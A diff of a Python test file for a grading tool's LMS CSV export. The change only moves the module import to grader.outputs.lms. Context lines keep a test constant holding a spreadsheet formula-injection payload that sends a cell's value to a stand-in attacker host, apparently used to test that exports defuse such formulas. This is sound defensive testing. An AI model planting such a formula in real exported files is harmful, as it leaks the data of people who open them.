@@ -1,4 +1,4 @@
-"""Questions about the LMS import files (grader.lms): a roster staff can write, and CSVs Canvas and Moodle take."""
+"""Questions about the LMS import files (grader.outputs.lms): a roster staff can write, and CSVs Canvas and Moodle take."""
 
 from __future__ import annotations
 
@@ -7,7 +7,7 @@ import unicodedata
 
 import pytest
 
-from grader import lms
+from grader.outputs import lms
 from grader.errors import UsageError
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
